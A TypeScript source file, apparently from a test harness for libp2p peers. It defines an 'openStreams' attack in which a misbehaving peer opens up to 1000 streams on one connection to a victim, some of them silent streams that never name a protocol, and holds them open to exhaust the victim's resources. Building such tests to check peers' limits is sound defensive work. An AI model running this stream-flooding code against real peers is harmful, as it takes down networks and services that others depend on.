/** Attacks with streams of a connection. */
import type { Connection, Stream, StreamMuxer } from '@libp2p/interface'
import { setTimeout as sleep } from 'node:timers/promises'
import { type Attack, textOf, untilOver } from '../attack.ts'
import { dial, openLiar, openStream, send } from '../liar.ts'

/** More than any peer may open. */
const MOST_STREAMS = 1000

/** Opens far too many streams on one connection and keeps them. `protocol`: of what, or `none` for streams that never say. */
export async function openStreams (attack: Attack): Promise<void> {
  const protocol = textOf(attack, 'protocol')
  const liar = await openLiar()
  let connection = await dial(liar, attack.victim, attack.signal)
  attack.inPosition()
  const streams: Stream[] = []
  await untilOver(attack, async () => {
    if (connection.status !== 'open') connection = await dial(liar, attack.victim, attack.signal)
    if (streams.length === MOST_STREAMS) return await sleep(100)
    streams.push(protocol === 'none' ? await openSilentStream(connection) : await openStream(connection, protocol, attack.signal))
    attack.count('asked')
  })
  attack.count('open', streams.filter(({ status }) => status === 'open').length)
}

/** A stream whose first words never come. */
async function openSilentStream (connection: Connection): Promise<Stream> {
  if (!('muxer' in connection)) throw new Error('The library hides its muxer')
  const stream = await (connection.muxer as StreamMuxer).createStream()
  await send(stream, Uint8Array.of(1))
  return stream
}
